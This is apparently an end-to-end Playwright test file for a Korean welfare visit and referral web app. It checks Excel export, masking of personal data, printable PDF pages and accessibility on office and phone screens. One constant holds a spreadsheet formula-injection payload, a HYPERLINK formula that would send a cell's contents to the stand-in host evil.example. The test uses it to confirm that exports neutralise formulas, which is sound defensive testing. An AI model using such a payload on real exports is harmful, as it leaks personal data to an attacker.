"""The visit list taken out for the office and the field, in a browser, on an office screen (1366×768) and on a
phone (390×844): an officer files a report whose words are a formula, downloads the worklist as Excel through the
page (refused without a reason, then for a preset one) and opens the file with openpyxl, then opens the printable
A4 page with the same filters, which fits the phone and prints to a PDF. The referral list does the same. No page
scrolls sideways and axe-core is clean on each."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from playwright.sync_api import expect

from tests.e2e.layout import measure
from tests.e2e.support import DemoServer, assert_accessible
from tests.e2e.test_small_screens import _ensure_round

pytestmark = pytest.mark.e2e

VIEWPORTS = {"office": (1366, 768), "phone": (390, 844)}
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&C6,"자세히")'


def fits_and_is_accessible(page: Any, name: str, artifacts: Path) -> None:
    """No sideways scrolling (`scrollWidth <= innerWidth`), and on a phone no word broken in a squeezed column and
    no control under a fingertip's 44 px (tests/e2e/layout.py); axe-core clean; a screenshot to look at."""
    width = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert width[0] <= width[1], f"{name} scrolls sideways: scrollWidth {width[0]} > innerWidth {width[1]}"
    if width[1] < 768:
        problems = measure(page).problems()
        assert not problems, f"{name}: {problems}"
    assert_accessible(page, name)
    page.screenshot(path=artifacts / f"{name}.png", full_page=True)


def _file_hostile_report(page: Any, server: DemoServer, marker: str) -> None:
    page.goto(server.url("/referrals/new/"))
    page.select_option("#id_dong", index=1)
    page.fill("#id_address_text", f"{marker} 반지하")
    page.fill("#id_concern", HOSTILE)
    page.locator("main form button[type=submit]").click()
    expect(page).to_have_url(re.compile(r"/referrals/$"))


def _download(page: Any, artifacts: Path, name: str) -> Any:
    """Through the page: the button refuses without a reason, then downloads for a preset one."""
    page.get_by_role("link", name="엑셀 내려받기").click()
    expect(page.locator("h1")).to_contain_text("엑셀로 내려받기")
    fits_and_is_accessible(page, f"{name}-export-form", artifacts)
    page.get_by_role("button", name="엑셀 내려받기").click()
    expect(page.locator("#reason-error")).to_contain_text("내려받는 이유")
    page.select_option("#id_preset", "visit_schedule")
    with page.expect_download() as info:
        page.get_by_role("button", name="엑셀 내려받기").click()
    download = info.value
    assert download.suggested_filename.endswith(".xlsx")
    path = artifacts / f"{name}.xlsx"
    download.save_as(path)
    path.chmod(0o600)  # personal data, even synthetic: this user's only
    return openpyxl.load_workbook(path).active


def _table(sheet: Any) -> tuple[list[Any], list[list[Any]]]:
    header = next(r for r in range(1, 10) if sheet.cell(r, 1).value == "발굴 경로")
    rows = [list(row) for row in sheet.iter_rows(min_row=header + 1) if any(c.value for c in row[:3])]
    return [c.value for c in sheet[header]], rows


def _print_page(page: Any, artifacts: Path, name: str, viewport: str) -> None:
    officer = page.locator(".site-header .who span").first.inner_text().split("·")[0].strip()
    page.get_by_role("link", name="인쇄").click()
    expect(page).to_have_url(re.compile(r"/print/\?"))
    expect(page.locator(".site-header")).to_have_count(0)  # no menu on paper
    expect(page.get_by_role("button", name="인쇄")).to_be_visible()
    expect(page.locator(".print-facts")).to_contain_text(officer)
    fits_and_is_accessible(page, f"{name}-print-{viewport}", artifacts)
    page.emulate_media(media="print")
    page.screenshot(path=artifacts / f"{name}-print-media-{viewport}.png", full_page=True)
    pdf = artifacts / f"{name}-{viewport}.pdf"
    page.pdf(path=str(pdf), format="A4", print_background=True)
    assert pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 5_000
    page.emulate_media(media="screen")


@pytest.mark.parametrize("viewport", list(VIEWPORTS))
def test_the_worklist_as_excel_and_on_paper(
    open_page: Callable[..., Any], demo_server: DemoServer, artifacts: Path, viewport: str
) -> None:
    _ensure_round(demo_server, open_page)
    width, height = VIEWPORTS[viewport]
    page = open_page("demo_dong")
    page.set_viewport_size({"width": width, "height": height})
    marker = f"수식신고 {viewport}"
    _file_hostile_report(page, demo_server, marker)

    page.goto(demo_server.url("/worklist/?sort=tong"))
    caption = page.locator("table.worklist caption").inner_text()
    shown = int(re.sub(r"\D", "", caption))
    assert shown > 1
    fits_and_is_accessible(page, f"worklist-{viewport}", artifacts)

    sheet = _download(page, artifacts, f"worklist-{viewport}")
    header, rows = _table(sheet)
    assert header[:4] == ["발굴 경로", "통/반", "주소(동·호)", "가구주"]
    assert len(rows) == shown  # exactly the rows of the page
    title = "\n".join(str(sheet.cell(r, 1).value) for r in range(1, 5))
    assert "방문 목록" in title and "정렬: 통·반" in title and "(한국 시간)" in title
    report = next(row for row in rows if str(row[2].value).startswith(marker))
    assert report[0].value.startswith("신고")
    # Names masked, no phone or resident number anywhere.
    text = "\n".join(str(c.value) for row in rows for c in row if c.value is not None)
    assert not re.search(r"01\d-\d{3,4}-\d{4}|\d{6}-[1-8]\d{6}", text)
    names = [str(row[3].value) for row in rows if row[3].value]
    assert names and all("*" in name for name in names), names[:5]

    page.goto(demo_server.url("/worklist/?sort=tong"))
    _print_page(page, artifacts, "worklist", viewport)
    expect(page.locator("table.print-list tbody tr")).to_have_count(shown)
    expect(page.locator("h1")).to_contain_text("방문 목록")


@pytest.mark.parametrize("viewport", list(VIEWPORTS))
def test_the_referral_list_as_excel_and_on_paper(
    open_page: Callable[..., Any], demo_server: DemoServer, artifacts: Path, viewport: str
) -> None:
    width, height = VIEWPORTS[viewport]
    page = open_page("demo_dong")
    page.set_viewport_size({"width": width, "height": height})
    marker = f"수식신고목록 {viewport}"
    _file_hostile_report(page, demo_server, marker)
    page.goto(demo_server.url("/referrals/?open=1"))
    fits_and_is_accessible(page, f"referrals-{viewport}", artifacts)

    sheet = _download(page, artifacts, f"referrals-{viewport}")
    header, rows = _table(sheet)
    assert header[-1] == "발견 내용"
    report = next(row for row in rows if str(row[2].value).startswith(marker))
    noticed = report[-1]
    assert noticed.value == HOSTILE and noticed.data_type == "s" and noticed.quotePrefix  # text, not a formula
    assert "처리 중인 신고만" in str(sheet.cell(2, 1).value)

    page.goto(demo_server.url("/referrals/?open=1"))
    _print_page(page, artifacts, "referrals", viewport)
    expect(page.locator("table.print-list")).to_contain_text(marker)
